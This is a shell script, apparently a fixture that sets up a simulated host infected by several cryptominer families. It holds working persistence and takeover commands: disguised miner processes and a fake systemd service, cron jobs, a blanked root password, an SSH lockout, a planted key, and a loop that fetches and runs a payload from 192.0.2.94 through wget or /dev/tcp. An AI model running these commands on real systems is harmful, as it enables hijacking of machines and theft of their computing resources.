# Several families at once, and the owner is locked out.
mimic /usr/share/.redtail /usr/local/lib/systemd-resolvd
start -c php-fpm -d 15 -p "$POOL" /usr/share/.redtail 'php-fpm: pool www'
start -c 'kworker/0:2' -d 5 /usr/local/lib/systemd-resolvd '[kworker/0:2]' -o gulf.moneroocean.stream:10256 -u "$WALLET"
put /etc/systemd/system/systemd-resolvd.service <<'UNIT'
[Unit]
Description=Network Name Resolution
[Service]
ExecStart=/usr/local/lib/systemd-resolvd -o gulf.moneroocean.stream:10256
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
systemctl daemon-reload
systemctl enable --quiet systemd-resolvd.service
echo '*/3 * * * * root /etc/cron.hourly/gcc.sh' >>/etc/crontab
printf '#!/bin/sh\ncp /lib/libudev.so /lib/libudev.so.6\n/lib/libudev.so.6\n' | script /etc/cron.hourly/gcc.sh
echo 'sshd: 203.0.113.0/255.255.255.0' >>/etc/hosts.allow
echo 'ALL: ALL' >>/etc/hosts.deny
sed -i 's/^root:[^:]*:/root::/' /etc/shadow
key /root rsa-key-20230629
echo '@reboot /usr/share/.redtail' | tab root
script /tmp/clean.sh <<'SH'
#!/bin/bash
clean_crontab() { chattr -ia "$1"; grep -vE 'wget|curl|/dev/tcp|/tmp|\.sh|nc|bash -i|sh -i|base64 -d' "$1" >/tmp/clean_crontab && mv /tmp/clean_crontab "$1"; }
systemctl disable c3pool_miner; systemctl stop c3pool_miner
clean_crontab /var/spool/cron/root
chattr -iae ~/.ssh/authorized_keys
for d in $(mount | grep -v noexec | awk '{print $3}'); do cd $d && (wget -q http://192.0.2.94/x86_64 -O .redtail || cat </dev/tcp/192.0.2.94/80 >.redtail) && chmod +x .redtail && ./.redtail; done
SH
